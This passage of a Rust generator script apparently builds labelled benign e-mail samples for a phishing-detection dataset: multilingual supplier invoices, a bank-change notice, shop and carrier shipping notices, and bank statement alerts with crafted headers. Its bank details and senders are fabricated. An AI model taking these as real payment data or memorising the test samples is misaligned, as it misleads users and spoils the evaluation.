    // (invoice prefix, bank line, currency)
    match p.domain {
        "acme-supplies.example" => (
            "INV-",
            "Barclays Bank plc, sort code 20-45-77, account 43917752",
            "GBP",
        ),
        "northwind.example" => (
            "NW-",
            "Bank of Ireland, IBAN IE29 BOFI 9000 1712 3456 78, BIC BOFIIE2D",
            "EUR",
        ),
        "schmidt-buerotechnik.example" => (
            "2025-",
            "BW-Bank, IBAN DE89 6005 0101 0002 2815 04, BIC SOLADEST600",
            "EUR",
        ),
        "papeterie-dupont.example" => (
            "FA-2025-",
            "LCL Lyon Bellecour, IBAN FR14 3000 2005 5000 0015 7845 Z02, BIC CRLYFRPP",
            "EUR",
        ),
        "suministros-garcia.example" => (
            "F-2025/",
            "Banco Sabadell, IBAN ES80 0081 0216 7300 0123 4567, BIC BSABESBB",
            "EUR",
        ),
        "fabrikam.example" => (
            "FAB-",
            "Frost Bank, ABA 114000093, account 5021873364",
            "USD",
        ),
        "tailspin-logistics.example" => (
            "TL-",
            "ABN AMRO, IBAN NL91 ABNA 0417 1643 00, BIC ABNANL2A",
            "EUR",
        ),
        _ => (
            "R-",
            "Luzerner Kantonalbank, IBAN CH93 0077 8000 0123 4567 8, BIC LUKBCH2260A",
            "CHF",
        ),
    }
}

/// Invoices, reminders and statements from Example Org's suppliers: payment
/// wording, bank details, PDF attachments; some sent through Xero or
/// QuickBooks with a Reply-To the supplier's own address.
fn supplier_invoice() -> Vec<Sample> {
    const KIND: &str = "supplier-invoice";
    let mut out = Vec::new();
    for i in 0..25 {
        let name = format!("{KIND}-{i:02}");
        let p = &PARTNERS[i % PARTNERS.len()];
        let (prefix, bank, cur) = billing(p);
        let number = format!("{prefix}{}", 20400 + i * 17);
        let cents = 48_000 + (hash(&name) % 1_900_000);
        let amount = match (p.lang, cur) {
            ("de", _) => eur_de(cents).replace('€', cur).replace(" EUR", " €"),
            ("fr", _) => eur_fr(cents),
            ("es", _) => eur_de(cents),
            (_, "GBP") => money_en("£", cents),
            (_, "USD") => money_en("$", cents),
            (_, c) => format!("{c} {}", money_en("", cents)),
        };
        let day = i / 2 + 1;
        let due = day + 30;
        let reminder = i % 6 == 5;
        let rcpt = if i % 5 == 4 { CFO } else { AP };
        let invoice_pdf = pdf(&[
            p.company,
            p.city,
            &format!("Invoice / Rechnung / Facture / Factura {number}"),
            &format!("Date: {}", dmy(day)),
            "Customer: Example Org, Accounts Payable",
            &format!("Total: {amount}"),
            &format!("Payment terms: 30 days net, due {}", dmy(due)),
            bank,
        ]);
        let (subject, text) = match (p.lang, reminder) {
            ("de", false) => (
                format!("Rechnung {number}"),
                format!(
                    "Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung {number} vom {} über {amount}.\n\nZahlungsziel: 30 Tage netto (bis {}).\nBankverbindung: {bank}\n\nBei Fragen zur Rechnung erreichen Sie uns unter {}.\n\n{}",
                    dmy(day),
                    dmy(due),
                    p.billing,
                    signature(p)
                ),
            ),
            ("de", true) => (
                format!("Zahlungserinnerung Rechnung {number}"),
                format!(
                    "Sehr geehrte Damen und Herren,\n\nsicher ist es Ihrer Aufmerksamkeit entgangen: Unsere Rechnung {number} über {amount} war am {} fällig. Bitte überweisen Sie den Betrag in den nächsten Tagen auf unser bekanntes Konto ({bank}).\n\nSollten Sie die Zahlung bereits veranlasst haben, betrachten Sie dieses Schreiben bitte als gegenstandslos.\n\n{}",
                    dmy(day),
                    signature(p)
                ),
            ),
            ("fr", false) => (
                format!("Facture {number}"),
                format!(
                    "Madame, Monsieur,\n\nVeuillez trouver ci-joint notre facture {number} du {} d'un montant de {amount}.\n\nConditions de paiement : 30 jours net (échéance le {}).\nCoordonnées bancaires : {bank}\n\nNous restons à votre disposition pour toute question.\n\n{}",
                    dmy(day),
                    dmy(due),
                    signature(p)
                ),
            ),
            ("fr", true) => (
                format!("Relance : facture {number} échue"),
                format!(
                    "Madame, Monsieur,\n\nSauf erreur de notre part, la facture {number} d'un montant de {amount}, échue le {}, reste impayée à ce jour. Nous vous remercions de bien vouloir procéder à son règlement sur notre compte habituel.\n\nSi le paiement a déjà été effectué, merci de ne pas tenir compte de ce message.\n\n{}",
                    dmy(day),
                    signature(p)
                ),
            ),
            ("es", false) => (
                format!("Factura {number}"),
                format!(
                    "Estimados señores:\n\nAdjuntamos la factura {number} de fecha {} por importe de {amount}.\n\nForma de pago: transferencia a 60 días (vencimiento {}).\nDatos bancarios: {bank}\n\nQuedamos a su disposición para cualquier consulta.\n\n{}",
                    dmy(day),
                    dmy(day + 60),
                    signature(p)
                ),
            ),
            ("es", true) => (
                format!("Recordatorio de pago - factura {number}"),
                format!(
                    "Estimados señores:\n\nLes recordamos que la factura {number} por importe de {amount} venció el {}. Les rogamos que procedan a su pago en la cuenta habitual.\n\nSi ya han realizado el pago, por favor ignoren este mensaje.\n\n{}",
                    dmy(day),
                    signature(p)
                ),
            ),
            (_, false) => (
                format!("Invoice {number} from {}", p.company),
                format!(
                    "Dear Accounts Payable,\n\nPlease find attached invoice {number} dated {} for {amount}.\n\nPayment terms: 30 days net (due {}).\nBank details: {bank}\n\nIf you have any questions about this invoice, please contact us at {}.\n\n{}",
                    long_date(day),
                    long_date(due),
                    p.billing,
                    signature(p)
                ),
            ),
            (_, true) => (
                format!("Payment reminder: invoice {number} overdue"),
                format!(
                    "Dear Accounts Payable,\n\nOur records show that invoice {number} for {amount}, due on {}, is still outstanding. We'd be grateful if you could arrange payment at your earliest convenience, or let us know if there is any issue with the invoice.\n\nIf you have already paid, please disregard this reminder.\n\n{}",
                    long_date(day),
                    signature(p)
                ),
            ),
        };
        let file = format!("{}.pdf", number.replace('/', "-"));
        let via = match (p.domain, i % 3) {
            ("acme-supplies.example", 0) => "xero",
            ("fabrikam.example", _) if i % 2 == 1 => "quickbooks",
            _ => "direct",
        };
        let (m, env) = match via {
            "xero" => {
                let link = format!("https://in.xero.com/{}", Rng::new(&name).alnum(40));
                let h = service_html(
                    p.company,
                    "#13b5ea",
                    &[
                        "Dear Accounts Payable,".into(),
                        format!("Here's invoice {number} for {amount}."),
                        format!("The amount outstanding of {amount} is due on {}.", long_date(due)),
                        "View your bill online. From your online bill you can print a PDF, export a CSV, or create a free login and view your outstanding bills.".into(),
                        format!("If you have any questions, please let us know.<br><br>Thanks,<br>{}", p.company),
                    ],
                    Some(("View invoice", &link)),
                    "Sent with Xero - beautiful business. <a href=\"https://www.xero.com/\">xero.com</a>",
                );
                let m = msg(
                    &name,
                    Mailer::Esp,
                    mailbox(p.company, "messaging-service@post.xero.com"),
                    AP.1.to_string(),
                    &format!("Invoice {number} from {} for Example Org", p.company),
                    date(day, 14 * 60 + i * 11, i, "+0000"),
                    mixed(vec![
                        alt(&html_to_text(&h), &h),
                        attachment("application/pdf", &file, &invoice_pdf),
                    ]),
                )
                .header("Reply-To", &mailbox(p.company, p.billing));
                (
                    m,
                    service_env(
                        "bounces+7721@post.xero.com",
                        "outbound-2.post.xero.com",
                        Auth::Aligned,
                        true,
                    ),
                )
            }
            "quickbooks" => {
                let link = format!(
                    "https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-{}",
                    Rng::new(&name).hex(64)
                );
                let h = service_html(
                    p.company,
                    "#2ca01c",
                    &[
                        format!(
                            "<span style=\"font-size:12px;color:#6b6c72\">INVOICE {number} DETAILS</span><br><span style=\"font-size:28px\">{amount}</span><br>Due {}",
                            long_date(due)
                        ),
                        "Dear Example Org,".into(),
                        format!(
                            "We appreciate your business. Please find your invoice details here. Feel free to contact us if you have any questions.<br><br>Have a great day!<br>{}",
                            p.company
                        ),
                    ],
                    Some(("Review and pay", &link)),
                    "Powered by QuickBooks. Intuit Inc., 2700 Coast Avenue, Mountain View, CA 94043",
                );
                let m = msg(
                    &name,
                    Mailer::Esp,
                    mailbox(p.company, "quickbooks@notification.intuit.com"),
                    AP.1.to_string(),
                    &format!("Invoice {number} from {}", p.company),
                    date(day, 15 * 60 + i * 11, i, "-0500"),
                    mixed(vec![
                        alt(&html_to_text(&h), &h),
                        attachment("application/pdf", &file, &invoice_pdf),
                    ]),
                )
                .header("Reply-To", p.billing);
                (
                    m,
                    service_env(
                        "quickbooks@notification.intuit.com",
                        "mx-out-4.notification.intuit.com",
                        Auth::Aligned,
                        true,
                    ),
                )
            }
            _ => {
                let mailer = if i % 4 == 0 {
                    Mailer::Php
                } else {
                    partner_mailer(p)
                };
                let text_body = if mailer == Mailer::Php {
                    plain(&text)
                } else {
                    body_for(mailer, &text)
                };
                let m = msg(
                    &name,
                    mailer,
                    mailbox(
                        &format!(
                            "{} - {}",
                            p.company,
                            if p.lang == "de" {
                                "Buchhaltung"
                            } else if p.lang == "fr" {
                                "Comptabilité"
                            } else if p.lang == "es" {
                                "Administración"
                            } else {
                                "Accounts"
                            }
                        ),
                        p.billing,
                    ),
                    person(rcpt),
                    &subject,
                    date(
                        day,
                        10 * 60 + i * 13,
                        i * 3,
                        if p.lang == "en" { "+0000" } else { "+0100" },
                    ),
                    mixed(vec![
                        text_body,
                        attachment("application/pdf", &file, &invoice_pdf),
                    ]),
                );
                (
                    m,
                    org_env(
                        p.billing,
                        i,
                        if i % 8 == 6 {
                            Auth::SpfOnly
                        } else {
                            Auth::Aligned
                        },
                        true,
                    ),
                )
            }
        };
        out.push(sample(
            KIND,
            i,
            false,
            if via == "direct" { rcpt.1 } else { AP.1 },
            env,
            m.render(),
        ));
    }

    // A genuine notice of a bank change from a long-standing supplier, which
    // asks for a call-back instead of an e-mail confirmation.
    let i = 25;
    let name = format!("{KIND}-{i:02}");
    let text = format!(
        "Dear Accounts Payable,\n\nFollowing the merger of Tailspin Logistics into the Tailspin Group, our company bank account will change with effect from 1 May 2025. You will receive a letter signed by our CFO by post in the next few days with the new details.\n\nPlease do not change any bank details on the strength of an e-mail alone - including this one. Before updating your records, call your usual contact, Greg Walsh, on the telephone number you already have on file, and he will confirm the new account with you.\n\nUntil 1 May, please continue to pay into our current account.\n\n{}",
        signature(&TAILSPIN)
    );
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Tailspin Logistics - Accounts", TAILSPIN.billing),
        person(AP),
        "Advance notice: change of bank account from 1 May 2025",
        date(12, 11 * 60 + 4, 19, "+0100"),
        outlook_body(&text),
    );
    out.push(sample(
        KIND,
        i,
        false,
        AP.1,
        org_env(TAILSPIN.billing, i, Auth::Aligned, true),
        m.render(),
    ));
    out
}

/// Order confirmations and shipping notices from shops and carriers.
fn order_shipping() -> Vec<Sample> {
    const KIND: &str = "order-shipping";
    let items = [
        ("Logitech MX Keys S Wireless Keyboard", 10999u64),
        ("Anker USB-C Hub, 7-in-1", 3599),
        ("The Pragmatic Programmer, 20th Anniversary Edition", 4299),
        ("Brother TN-2420 Toner Cartridge, Black", 5490),
        ("Moleskine Classic Notebook, Large, Ruled", 2250),
        ("Dell 27 Monitor - P2723DE", 38900),
    ];
    let mut out = Vec::new();
    for i in 0..22 {
        let name = format!("{KIND}-{i:02}");
        let mut rng = Rng::new(&name);
        let rcpt = PEOPLE[(i * 3 + 1) % PEOPLE.len()];
        let (item, cents) = items[i % items.len()];
        let day = i + 1;
        let (svc_from, display, mail_from, helo, subject, body, zone): (
            String,
            String,
            String,
            String,
            String,
            Part,
            &str,
        ) = match i % 7 {
            0 => {
                let order = format!("112-{}-{}", rng.digits(7), rng.digits(7));
                let link = format!(
                    "https://www.amazon.com/gp/css/order-details?orderID={order}&amp;ref_=pe_3122081_1004520701_TE_simp_od"
                );
                let h = service_html(
                    "amazon",
                    "#232f3e",
                    &[
                        format!("Hello {},", rcpt.0),
                        format!(
                            "Thank you for your order. We'll send a confirmation when your item ships. Your estimated delivery date is indicated below.<br><br><b>Order #{order}</b><br>Arriving: {}",
                            long_date(day + 3)
                        ),
                        format!("{item}<br>Quantity: 1<br>{}", money_en("$", cents)),
                        format!("Order Total: <b>{}</b>", money_en("$", cents + cents / 10)),
                    ],
                    Some(("View or manage order", &link)),
                    "We hope to see you again soon.<br>Amazon.com<br><br>This email was sent from a notification-only address that cannot accept incoming email. Please do not reply to this message.",
                );
                (
                    "auto-confirm@amazon.com".into(),
                    "Amazon.com".into(),
                    format!("2025{}@bounces.amazon.com", rng.hex(40)),
                    "a9-12.smtp-out.amazonses.com".into(),
                    format!("Your Amazon.com order #{order}"),
                    alt(&html_to_text(&h), &h),
                    "+0000",
                )
            }
            1 => {
                let order = format!("302-{}-{}", rng.digits(7), rng.digits(7));
                let link =
                    format!("https://www.amazon.de/gp/your-account/ship-track?orderId={order}");
                let h = service_html(
                    "amazon.de",
                    "#232f3e",
                    &[
                        format!("Hallo {},", rcpt.0),
                        format!(
                            "Ihre Sendung ist unterwegs. Voraussichtliche Zustellung: <b>{}</b>",
                            dmy(day + 2)
                        ),
                        format!("Bestellung #{order}<br>{item}"),
                    ],
                    Some(("Sendung verfolgen", &link)),
                    "Wir hoffen, Sie bald wiederzusehen.<br>Amazon.de<br><br>Diese E-Mail wurde von einer Adresse gesendet, die keine eingehenden E-Mails empfangen kann.",
                );
                (
                    "versandbestaetigung@amazon.de".into(),
                    "Amazon.de".into(),
                    format!("2025{}@bounces.amazon.de", rng.hex(40)),
                    "a4-3.smtp-out.eu-west-1.amazonses.com".into(),
                    format!(
                        "Versandbestätigung: Ihr Amazon.de-Paket mit \"{}...\" ist unterwegs",
                        &item[..item.len().min(30)]
                    ),
                    alt(&html_to_text(&h), &h),
                    "+0100",
                )
            }
            2 => {
                let code = format!("00340434{}", rng.digits(12));
                let link = format!(
                    "https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode={code}"
                );
                let h = service_html("DHL", "#d40511", &[
                    "Guten Tag,".into(),
                    format!("Ihr Paket kommt heute zwischen 10:30 und 13:30 Uhr.<br><br>Sendungsnummer: <b>{code}</b><br>Absender: Hartmann Office Supplies GmbH"),
                    "Sie sind nicht zu Hause? Sie können Ihr Paket bis 1 Stunde vor Zustellung an einen Ablageort umleiten.".into(),
                ], Some(("Sendung verfolgen", &link)), "Deutsche Post AG, Charles-de-Gaulle-Str. 20, 53113 Bonn<br>Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.");
                (
                    "noreply@dhl.de".into(),
                    "DHL Paket".into(),
                    "bounce@mailing.dhl.de".into(),
                    "mailout3.dhl.de".into(),
                    "Ihr DHL Paket kommt heute".into(),
                    alt(&html_to_text(&h), &h),
                    "+0100",
                )
            }
            3 => {
                let track = format!(
                    "1Z{}{}",
                    rng.chars_from(b"0123456789ABCDEFGHJKLMNPRSTUVWXYZ", 6),
                    rng.digits(10)
                );
                let link = format!(
                    "https://www.ups.com/track?loc=en_US&amp;tracknum={track}&amp;requester=ST/trackdetails"
                );
                let h = service_html("UPS", "#351c15", &[
                    format!("Hello, your package is scheduled for delivery today.<br><br><b>Tracking Number:</b> <a href=\"{link}\">{track}</a><br><b>Ship To:</b> Example Org<br><b>Number of Packages:</b> 1<br><b>Scheduled Delivery:</b> {}, by end of day", long_date(day)),
                    "Want to change your delivery? Get UPS My Choice® to reschedule, redirect, or hold your package.".into(),
                ], Some(("Track Package", &link)), "© 2025 United Parcel Service of America, Inc. UPS, the UPS brandmark, and the color brown are trademarks of United Parcel Service of America, Inc. All rights reserved.<br>Do not reply directly to this email. UPS will not receive any reply message.");
                (
                    "mcinfo@ups.com".into(),
                    "UPS".into(),
                    "bounce-mcinfo@ups.com".into(),
                    "out6.ups.com".into(),
                    "UPS Update: Package Scheduled for Delivery Today".into(),
                    alt(&html_to_text(&h), &h),
                    "-0500",
                )
            }
            4 => {
                let track = rng.digits(12);
                let link = format!(
                    "https://www.fedex.com/fedextrack/?trknbr={track}&amp;trkqual=12027~{track}~FDEG"
                );
                let h = service_html(
                    "FedEx",
                    "#4d148c",
                    &[
                        "Hi. Your package is on its way.".into(),
                        format!(
                            "<b>Scheduled delivery:</b> {}<br><b>Tracking ID:</b> {track}<br><b>From:</b> Fabrikam Engineering Inc., Austin, TX<br><b>Ship date:</b> {}",
                            long_date(day + 4),
                            long_date(day)
                        ),
                    ],
                    Some(("TRACK YOUR PACKAGE", &link)),
                    "This tracking update has been sent to you by FedEx on behalf of the requestor. FedEx does not validate the authenticity of the requestor and does not validate, guarantee or warrant the authenticity of the request, the requestor's message, or the accuracy of this tracking update.<br>© 2025 Federal Express Corporation.",
                );
                (
                    "TrackingUpdates@fedex.com".into(),
                    "FedEx".into(),
                    "TrackingUpdates@fedex.com".into(),
                    "mx-out3.fedex.com".into(),
                    format!("Your package is on the way: Tracking ID {track}"),
                    alt(&html_to_text(&h), &h),
                    "-0600",
                )
            }
            5 => {
                let order = format!("HO-{}", 250_300 + i * 11);
                let text = format!(
                    "Guten Tag {},\n\nvielen Dank für Ihre Bestellung bei Hartmann Office Supplies.\n\nBestellnummer: {order}\nBestelldatum: {}\n\n1 x {item}      {}\n\nZwischensumme: {}\nVersand: 0,00 €\nGesamtbetrag: {}\n\nZahlungsart: Kauf auf Rechnung (zahlbar innerhalb von 14 Tagen nach Erhalt der Ware)\nLieferadresse: Example Org, Wareneingang\n\nDen Status Ihrer Bestellung sehen Sie jederzeit in Ihrem Kundenkonto:\nhttps://shop.hartmann-office.example/konto/bestellungen/{order}\n\nMit freundlichen Grüßen\nIhr Hartmann-Team\n\nHartmann Office Supplies GmbH · Industriestraße 8 · 70565 Stuttgart\n",
                    rcpt.0,
                    dmy(day),
                    eur_de(cents),
                    eur_de(cents),
                    eur_de(cents)
                );
                (
                    "bestellung@hartmann-office.example".into(),
                    "Hartmann Office Supplies".into(),
                    "shop-bounce@hartmann-office.example".into(),
                    "mailout2.hartmann-office.example".into(),
                    format!("Ihre Bestellung {order}"),
                    plain(&text),
                    "+0100",
                )
            }
            _ => {
                let order = format!("NW-SO-{}", 77_100 + i);
                let h = service_html("Northwind Traders", "#1b4f72", &[
                    format!("Dear {},", rcpt.0),
                    format!("Your order <b>{order}</b> has been dispatched from our Dublin warehouse.<br>Carrier: DHL Express<br>Tracking: <a href=\"https://www.dhl.com/ie-en/home/tracking.html?tracking-id={0}\">{0}</a>", rng.digits(10)),
                    "The invoice will follow separately by email from billing@northwind.example.".into(),
                ], Some(("View order", &format!("https://portal.northwind.example/orders/{order}"))), "Northwind Traders Ltd, 14 Docklands Quay, Dublin 1, Ireland");
                (
                    "orders@northwind.example".into(),
                    "Northwind Traders".into(),
                    "orders@northwind.example".into(),
                    "mail.northwind.example".into(),
                    format!("Dispatched: order {order}"),
                    alt(&html_to_text(&h), &h),
                    "+0000",
                )
            }
        };
        let m = msg(
            &name,
            Mailer::Esp,
            mailbox(&display, &svc_from),
            rcpt.1.to_string(),
            &subject,
            date(day, 7 * 60 + i * 31, i * 2, zone),
            body,
        );
        let env = service_env(&mail_from, &helo, Auth::Aligned, i % 3 == 0);
        out.push(sample(KIND, i, false, rcpt.1, env, m.render()));
    }
    out
}

/// Statement and account notices from real banks, which tell the customer
/// to sign in by themselves.
fn bank_notice() -> Vec<Sample> {
    const KIND: &str = "bank-notice";
    let mut out = Vec::new();
    for i in 0..14 {
        let name = format!("{KIND}-{i:02}");
        let rcpt = pick(&[CFO, CEO, BOB, DIETER, ALICE, CARLA, CFO], i);
        let mut rng = Rng::new(&name);
        let last4 = rng.digits(4);
        let day = i + 1;
        let (display, from, mail_from, helo, subject, h, zone) = match i % 5 {
            0 => (
                "Chase",
                "no.reply.alerts@chase.com",
                "no.reply.alerts@chase.com",
                "mail-out2.chase.com",
                "Your statement is ready".to_string(),
                service_html("CHASE", "#117aca", &[
                    format!("Your statement for the account ending in {last4} is now available."),
                    "Sign in to chase.com or the Chase Mobile® app to view it. For your security, we don't include account details in this email.".into(),
                    "<b>Did you know?</b> You can turn on alerts for balances, payments and deposits in your profile.".into(),
                ], Some(("Sign in", "https://www.chase.com/")), "This service email was sent to you because you have a Chase account. Chase will never ask for your password, PIN or one-time code by email.<br>JPMorgan Chase Bank, N.A. Member FDIC. © 2025 JPMorgan Chase &amp; Co."),
                "-0500",
            ),
            1 => (
                "Wells Fargo Online",
                "alerts@notify.wellsfargo.com",
                "alerts@notify.wellsfargo.com",
                "mta8.notify.wellsfargo.com",
                "Your statement is available".to_string(),
                service_html("WELLS FARGO", "#d71e28", &[
                    format!("Your statement for Business Checking ...{last4} is available to view in Wells Fargo Online®."),
                    "To view it, sign on and select Statements &amp; Documents.".into(),
                ], None, "Please do not reply to this automated email. Wells Fargo will never ask you to provide your password or access code by email.<br>© 2025 Wells Fargo Bank, N.A. All rights reserved. Member FDIC."),
                "-0800",
            ),
            2 => (
                "Bank of America",
                "onlinebanking@ealerts.bankofamerica.com",
                "onlinebanking@ealerts.bankofamerica.com",
                "mta1.ealerts.bankofamerica.com",
                format!("Your payment of {} was sent", money_en("$", 15_000 + hash(&name) % 400_000)),
                service_html("Bank of America", "#012169", &[
                    format!("A payment from your account ending in {last4} was sent on {}.", mdy(day)),
                    "If you made this payment, no further action is needed. If you don't recognize it, please call us at the number on the back of your card.".into(),
                ], None, "This email was sent to you from Bank of America. We never ask for personal information such as your Online ID, Passcode or account numbers in email.<br>Bank of America, N.A. Member FDIC. © 2025 Bank of America Corporation."),
                "-0500",
            ),
            3 => (
                "American Express",
                "AmericanExpress@welcome.americanexpress.com",
                "bounce-amex@welcome.americanexpress.com",
                "mail.welcome.americanexpress.com",
                "Your Card statement is ready".to_string(),
                service_html("AMERICAN EXPRESS", "#006fcf", &[
                    format!("Your statement for the Business Gold Card account ending in {} is now ready.", &last4[..4]),
                    format!("Statement closing date: {}<br>Payment due date: {}", mdy(day), mdy(day + 25)),
                    "View your statement and make a payment online at americanexpress.com or in the Amex® App.".into(),
                ], Some(("View Statement", "https://www.americanexpress.com/en-us/account/login")), "American Express will never ask you to share your password, security code or one-time code by email.<br>© 2025 American Express. All rights reserved."),
                "-0700",
            ),
            _ => (
                "Sparkasse KölnBonn",
                "noreply@sparkasse-koelnbonn.de",
                "noreply@sparkasse-koelnbonn.de",
                "mx-out1.sparkasse-koelnbonn.de",
                "Neue Nachricht in Ihrem elektronischen Postfach".to_string(),
                service_html("Sparkasse KölnBonn", "#ff0000", &[
                    "Guten Tag,".into(),
                    "in Ihrem elektronischen Postfach liegt ein neues Dokument für Sie bereit: <b>Kontoauszug</b>.".into(),
                    "Bitte melden Sie sich wie gewohnt im Online-Banking oder in der App Sparkasse an, um das Dokument abzurufen.".into(),
                    "Wir fragen Sie niemals per E-Mail nach Zugangsdaten, PIN oder TAN.".into(),
                ], None, "Sparkasse KölnBonn, Hahnenstraße 57, 50667 Köln<br>Diese E-Mail wurde automatisch erstellt."),
                "+0100",
            ),
        };
        let m = msg(
            &name,
            Mailer::Esp,
            mailbox(display, from),
            rcpt.1.to_string(),
            &subject,
            date(day, 5 * 60 + i * 43, i, zone),
            alt(&html_to_text(&h), &h),
        );
        let env = service_env(mail_from, helo, Auth::Aligned, true);
        out.push(sample(KIND, i, false, rcpt.1, env, m.render()));
    }
    out
}

/// Mail in German, French, Spanish, Japanese, Arabic and Hebrew from
/// partners and acquaintances.
fn non_english() -> Vec<Sample> {
    const KIND: &str = "non-english";
    struct V {
        lang: &'static str,
        display: &'static str,
        addr: &'static str,
        to: (&'static str, &'static str),
        subject: &'static str,
        text: &'static str,
        mailer: Mailer,
        zone: &'static str,
    }
    let vs = [
        V {
            lang: "de",
            display: "Petra Schmidt",
            addr: "p.schmidt@schmidt-buerotechnik.example",
            to: DIETER,
            subject: "Neue Preisliste ab 1. April",
            text: "Hallo Herr Müller,\n\nanbei wie angekündigt unsere neue Preisliste, gültig ab dem 1. April. Die meisten Preise bleiben stabil; bei Toner und Papier gibt es leichte Anpassungen.\n\nFür Ihre laufenden Rahmenverträge ändert sich nichts.\n\nMit freundlichen Grüßen\nPetra Schmidt\nSchmidt Bürotechnik GmbH",
            mailer: Mailer::Thunderbird,
            zone: "+0100",
        },
        V {
            lang: "de",
            display: "Annika Frei",
            addr: "annika.frei@lucerne-publishing.example",
            to: DIETER,
            subject: "Korrekturfahnen Katalog 2025",
            text: "Grüezi Herr Müller\n\nDie Korrekturfahnen für Ihren Katalog 2025 sind bereit. Sie finden sie unter folgendem Link:\nhttps://dateien.lucerne-publishing.example/s/katalog-2025-korrektur\n\nWir bitten um Freigabe bis Ende nächster Woche.\n\nFreundliche Grüsse\nAnnika Frei",
            mailer: Mailer::AppleMail,
            zone: "+0100",
        },
        V {
            lang: "de",
            display: "IHK Stuttgart",
            addr: "newsletter@ihk-stuttgart.example",
            to: DIETER,
            subject: "Einladung: Informationsabend E-Rechnung",
            text: "Sehr geehrte Damen und Herren,\n\nseit dem 1. Januar 2025 müssen Unternehmen E-Rechnungen empfangen können. Wir laden Sie herzlich zu unserem Informationsabend am 2. April um 18 Uhr ein.\n\nAnmeldung unter https://www.ihk-stuttgart.example/e-rechnung\n\nMit freundlichen Grüßen\nIhre IHK",
            mailer: Mailer::Esp,
            zone: "+0100",
        },
        V {
            lang: "de",
            display: "Markus Lehmann",
            addr: "m.lehmann@lehmann-spedition.example",
            to: DIETER,
            subject: "Abholung Palettenware Donnerstag",
            text: "Hallo Dieter,\n\nwir holen die 6 Paletten am Donnerstag gegen 14 Uhr ab. Bitte die Lieferpapiere bereitlegen. Falls sich etwas ändert, ruf mich einfach auf dem Handy an.\n\nGruß\nMarkus",
            mailer: Mailer::Outlook,
            zone: "+0100",
        },
        V {
            lang: "fr",
            display: "Sophie Laurent",
            addr: "s.laurent@papeterie-dupont.example",
            to: ALICE,
            subject: "Catalogue printemps et nouveautés",
            text: "Bonjour Madame Martin,\n\nJ'ai le plaisir de vous adresser notre catalogue de printemps. Vous y trouverez notamment notre nouvelle gamme de papier recyclé.\n\nN'hésitez pas à me contacter pour toute commande ou demande d'échantillons.\n\nBien cordialement,\nSophie Laurent\nPapeterie Dupont SARL",
            mailer: Mailer::AppleMail,
            zone: "+0100",
        },
        V {
            lang: "fr",
            display: "Julien Moreau",
            addr: "julien.moreau@cabinet-moreau-avocats.example",
            to: CEO,
            subject: "Projet de contrat de distribution",
            text: "Madame,\n\nComme convenu lors de notre entretien, je vous prie de trouver ci-dessous le lien vers le projet de contrat de distribution révisé :\nhttps://partage.cabinet-moreau-avocats.example/d/contrat-distribution-v4\n\nJe reste à votre disposition pour en discuter jeudi.\n\nJe vous prie d'agréer, Madame, l'expression de mes salutations distinguées.\n\nJulien Moreau\nAvocat associé",
            mailer: Mailer::Outlook,
            zone: "+0100",
        },
        V {
            lang: "fr",
            display: "Camille Bernard",
            addr: "camille.bernard@gmail.com",
            to: ALICE,
            subject: "Photos de la soirée",
            text: "Coucou Alice !\n\nVoici le lien vers les photos de samedi, il y en a quelques-unes très réussies :)\nhttps://photos.app.goo.gl/Yx7kP2sQm9WcR4hT8\n\nÀ bientôt,\nCamille",
            mailer: Mailer::Gmail,
            zone: "+0100",
        },
        V {
            lang: "fr",
            display: "Service Formation",
            addr: "formation@cci-lyon.example",
            to: ALICE,
            subject: "Confirmation d'inscription - Formation paie",
            text: "Madame Martin,\n\nNous vous confirmons votre inscription à la formation « Actualité de la paie 2025 » qui se tiendra le 10 avril de 9h00 à 17h00 dans nos locaux.\n\nLa convocation et le programme détaillé vous seront envoyés une semaine avant la session.\n\nCordialement,\nLe service formation",
            mailer: Mailer::Esp,
            zone: "+0100",
        },
        V {
            lang: "es",
            display: "Javier García",
            addr: "javier.garcia@suministros-garcia.example",
            to: CARLA,
            subject: "Visita del martes",
            text: "Hola Carla:\n\nTe confirmo la visita del martes a las 10:00. Te esperamos en la nave de Paterna; pregunta por mí en recepción.\n\nAprovecharemos para revisar las entregas de febrero y la previsión para el segundo trimestre.\n\nUn abrazo,\nJavier",
            mailer: Mailer::Gmail,
            zone: "+0100",
        },
        V {
            lang: "es",
            display: "Lucía Romero",
            addr: "lucia.romero@eventos-valencia.example",
            to: CARLA,
            subject: "Presupuesto para la convención de mayo",
            text: "Estimada Carla:\n\nGracias por su interés. Le adjunto el enlace al presupuesto para la convención de mayo (sala para 80 personas, café y almuerzo):\nhttps://eventos-valencia.example/presupuestos/P-0519\n\nLa reserva se mantiene hasta el 31 de marzo. Quedo a su disposición.\n\nSaludos cordiales,\nLucía Romero",
            mailer: Mailer::Outlook,
            zone: "+0100",
        },
        V {
            lang: "es",
            display: "Mamá",
            addr: "rosa.nunez.lopez@hotmail.es",
            to: CARLA,
            subject: "Domingo",
            text: "Hola hija,\n\n¿Venís el domingo a comer? Haré paella. Dile a tu hermano que traiga el postre.\n\nBesos,\nMamá",
            mailer: Mailer::IPhone,
            zone: "+0100",
        },
        V {
            lang: "es",
            display: "Colegio de Economistas",
            addr: "comunicacion@economistas-valencia.example",
            to: CARLA,
            subject: "Jornada sobre facturación electrónica",
            text: "Estimada colegiada:\n\nLe invitamos a la jornada sobre la nueva obligación de facturación electrónica, que tendrá lugar el 3 de abril en la sede del Colegio.\n\nInscripción gratuita: https://economistas-valencia.example/jornadas/facturae\n\nAtentamente,\nDepartamento de Comunicación",
            mailer: Mailer::Esp,
            zone: "+0100",
        },
        V {
            lang: "ja",
            display: "田中 健一",
            addr: "k.tanaka@sakura-seiki.example",
            to: BOB,
            subject: "お見積りの件（サクラ精機）",
            text: "Example Org\nBob Keller 様\n\nいつも大変お世話になっております。\nサクラ精機の田中でございます。\n\n先日ご依頼いただきました精密部品のお見積りにつきまして、\n下記のとおりご案内申し上げます。\n\n・品番：SK-2040（200個）\n・単価：1,850円\n・納期：ご発注後約4週間\n\nご不明な点がございましたら、お気軽にお問い合わせください。\n何卒よろしくお願い申し上げます。\n\n――――――――――――――\n株式会社サクラ精機 営業部\n田中 健一\nTEL: 052-123-4567\n――――――――――――――",
            mailer: Mailer::Outlook,
            zone: "+0900",
        },
        V {
            lang: "ja",
            display: "鈴木 美咲",
